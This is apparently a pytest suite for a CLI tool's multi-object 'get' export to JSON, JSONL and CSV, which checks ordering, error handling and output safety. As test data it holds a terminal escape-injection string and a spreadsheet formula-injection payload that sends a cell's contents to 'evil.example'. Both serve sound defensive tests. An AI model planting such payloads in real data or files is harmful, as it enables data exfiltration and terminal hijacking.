"""`thread-tui get ID… | --ids @FILE --format json|jsonl|csv`: many objects out, in the order
given, each recorded in the catalog; `get ID` alone prints exactly what it always has.

Safety decided here: JSON and JSONL escape what a terminal would act on (the same data for a
JSON reader, on a terminal or in a file); CSV cells are exact in a pipe and drawn inert on a
terminal; a CSV cell that a spreadsheet would run as a formula gets a leading quote.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from thread_tui.cli import main
from thread_tui.commands import export
from thread_tui.emulator import Emulator
from thread_tui.storage.catalog import Catalog

Capture = pytest.CaptureFixture[str]
pytestmark = pytest.mark.usefixtures("no_user_environment")

HOSTILE = "\x1b]0;pwned\x07\x1b[2J\u202e"


@pytest.fixture
def emu() -> Emulator:
    return Emulator()


@pytest.fixture
def catalog_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "catalog.sqlite3"
    monkeypatch.setattr(export, "catalog_for", lambda *_: Catalog.open(path))
    return path


def run(argv: list[str], emu: Emulator, capsys: Capture) -> tuple[int, str, str]:
    code = main([*argv, "--demo"], emulator=emu)
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, out, err


def obj(emu: Emulator, resource_id: str) -> dict[str, Any]:
    return emu.threads.get(resource_id) or emu.conversations[resource_id]


def pretty(value: Any) -> str:
    return json.dumps(value, indent=2, ensure_ascii=False) + "\n"


def write(tmp_path: Path, text: str, name: str = "ids.txt") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("extra", [[], ["--format", "json"]])
def test_one_id_prints_as_it_always_has(
    emu: Emulator, capsys: Capture, catalog_path: Path, extra: list[str]
) -> None:
    code, out, err = run(["get", "thread_longvalues", *extra], emu, capsys)
    assert (code, err) == (0, "")
    assert out == pretty(emu.threads["thread_longvalues"])


def test_one_id_loads_nothing_of_the_export() -> None:
    code = (
        "import sys; from thread_tui.cli import main; "
        "code = main(['get', 'thread_abc123', '--demo']); "
        "print(code, *(m in sys.modules for m in "
        "('thread_tui.commands.export', 'thread_tui.commands.fetch_many', 'csv', "
        "'thread_tui.core.id_source')))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60
    )
    assert done.stdout.splitlines()[-1] == "0 False False False False"


def test_several_ids_make_a_pretty_json_array_in_the_order_given(
    emu: Emulator, capsys: Capture, catalog_path: Path
) -> None:
    ids = ["conv_abc123", "thread_tools", "thread_abc123"]
    code, out, err = run(["get", *ids], emu, capsys)
    assert (code, err) == (0, "")
    assert out == json.dumps([obj(emu, i) for i in ids], indent=2, ensure_ascii=False) + "\n"


def test_jsonl_is_one_object_a_line_and_recorded_in_the_catalog(
    tmp_path: Path, emu: Emulator, capsys: Capture, catalog_path: Path
) -> None:
    ids = write(tmp_path, "thread_full16\nconv_abc123\nthread_full16\n# done\n")
    code, out, _ = run(["get", "--ids", f"@{ids}", "--format", "jsonl"], emu, capsys)
    assert code == 0
    assert [json.loads(line) for line in out.splitlines()] == [
        obj(emu, "thread_full16"),
        obj(emu, "conv_abc123"),
    ]
    catalog = Catalog.open(catalog_path)
    entry = catalog.get("thread_full16")
    assert entry is not None and entry.metadata == emu.threads["thread_full16"]["metadata"]
    assert catalog.get("conv_abc123") is not None


def test_an_empty_list_is_an_empty_array(
    tmp_path: Path, emu: Emulator, capsys: Capture, catalog_path: Path
) -> None:
    ids = write(tmp_path, "# nothing yet\n")
    assert run(["get", "--ids", str(ids)], emu, capsys)[:2] == (0, "[]\n")


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_has_a_column_per_metadata_key_and_tool_resources_as_json(
    emu: Emulator, capsys: Capture, catalog_path: Path
) -> None:
    code, out, _ = run(
        ["get", "thread_tools", "conv_abc123", "thread_empty", "--format", "csv"], emu, capsys
    )
    assert code == 0
    header, *rows = read_csv(out)
    assert header == [
        "id",
        "kind",
        "created_at",
        "metadata.customer",
        "metadata.project",
        "metadata.stage",
        "metadata.topic",
        "tool_resources",
    ]
    tools = emu.threads["thread_tools"]
    assert rows[0][:7] == [
        "thread_tools",
        "thread",
        str(tools["created_at"]),
        "",
        "atlas",
        "review",
        "",
    ]
    assert json.loads(rows[0][7]) == tools["tool_resources"]
    assert rows[1] == ["conv_abc123", "conversation", "1741900000", "acme", "", "", "demo", ""]
    assert rows[2][:2] == ["thread_empty", "thread"] and json.loads(rows[2][7]) == {}


def test_a_csv_export_imports_back(
    tmp_path: Path, emu: Emulator, capsys: Capture, catalog_path: Path
) -> None:
    """`get --format csv` writes what `import` and `--ids` read: an `id` column."""
    code, out, _ = run(["get", "thread_abc123", "conv_abc123", "--format", "csv"], emu, capsys)
    exported = write(tmp_path, out, "objects.csv")
    code, again, _ = run(["get", "--ids", f"@{exported}", "--format", "jsonl"], emu, capsys)
    assert code == 0
    assert [json.loads(line)["id"] for line in again.splitlines()] == [
        "thread_abc123",
        "conv_abc123",
    ]


def test_csv_cells_a_spreadsheet_would_run_get_a_leading_quote(
    emu: Emulator, capsys: Capture, catalog_path: Path
) -> None:
    emu.threads["thread_abc123"]["metadata"] = {
        "formula": '=HYPERLINK("http://evil.example/?"&A1)',
        "plus": "+1",
        "minus": "-2",
        "at": "@SUM(1)",
        "plain": "a=b",
        "=key": "v",
    }
    _, out, _ = run(["get", "thread_abc123", "thread_empty", "--format", "csv"], emu, capsys)
    header, row, _ = read_csv(out)
    cells = dict(zip(header, row, strict=True))
    assert cells["metadata.formula"] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    assert (cells["metadata.plus"], cells["metadata.minus"]) == ("'+1", "'-2")
    assert cells["metadata.at"] == "'@SUM(1)"
    assert cells["metadata.plain"] == "a=b"
    assert "metadata.=key" in header  # only a cell's first character counts


def test_piped_output_is_exact_and_json_never_carries_a_raw_escape(
    emu: Emulator, capsys: Capture, catalog_path: Path
) -> None:
    emu.threads["thread_abc123"]["metadata"] = {"title": HOSTILE}
    for form in ("json", "jsonl", "csv"):
        code, out, _ = run(["get", "thread_abc123", "conv_abc123", "--format", form], emu, capsys)
        assert code == 0
        if form == "csv":
            header, row, _ = read_csv(out)
            assert row[header.index("metadata.title")] == HOSTILE  # exact in a file or pipe
        else:
            assert "\x1b" not in out and "\u202e" not in out and "\x07" not in out
            first = json.loads(out)[0] if form == "json" else json.loads(out.splitlines()[0])
            assert first["metadata"]["title"] == HOSTILE  # the same data, escaped


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_csv_on_a_terminal_is_drawn_inert(
    emu: Emulator, catalog_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    emu.threads["thread_abc123"]["metadata"] = {"title": HOSTILE, HOSTILE: "key too"}
    screen = Terminal()
    monkeypatch.setattr("sys.stdout", screen)
    code = main(["get", "thread_abc123", "conv_abc123", "--format", "csv", "--demo"], emulator=emu)
    assert code == 0
    drawn = screen.getvalue()
    assert "\x1b" not in drawn and "\x07" not in drawn and "\u202e" not in drawn
    assert "␛]0;pwned␇␛[2J" in drawn


def test_a_missing_object_is_told_the_others_written_and_exit_1(
    emu: Emulator, capsys: Capture, catalog_path: Path
) -> None:
    code, out, err = run(["get", "thread_abc123", "thread_gone", "conv_abc123"], emu, capsys)
    assert code == 1
    assert [o["id"] for o in json.loads(out)] == ["thread_abc123", "conv_abc123"]
    [line] = err.splitlines()
    assert line.startswith("error: thread_gone: ") and "404" in line
    gone = Catalog.open(catalog_path).get("thread_gone")
    assert gone is not None and gone.deleted


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["get"], "error: give one or more IDs, or --ids @FILE (- for stdin)"),
        (["get", "thread_abc123", "thread_a/b"], "error: the command line: ID 2, 'thread_a/b'"),
        (["get", "--ids", "@nope.txt"], "error: nope.txt: cannot read it"),
    ],
)
def test_bad_input_exits_2_with_nothing_fetched(
    emu: Emulator, capsys: Capture, catalog_path: Path, argv: list[str], message: str
) -> None:
    code, out, err = run(argv, emu, capsys)
    assert (code, out) == (2, "")
    assert err.startswith(message)
    assert list(emu.requests) == []


def test_a_bad_line_anywhere_in_the_list_sends_nothing(
    tmp_path: Path, emu: Emulator, capsys: Capture, catalog_path: Path
) -> None:
    ids = write(tmp_path, "".join(f"thread_n{n}\n" for n in range(500)) + "conv_ok\nnope\n")
    code, out, err = run(["get", "--ids", f"@{ids}", "--format", "jsonl"], emu, capsys)
    assert (code, out) == (2, "")
    assert err.startswith(f"error: {ids}:502: 'nope': ")
    assert list(emu.requests) == []


def test_ids_from_stdin(
    emu: Emulator, capsys: Capture, catalog_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO("id\nthread_abc123\nconv_abc123\n"))
    code, out, _ = run(["get", "--ids", "-", "--format", "jsonl"], emu, capsys)
    assert code == 0 and len(out.splitlines()) == 2
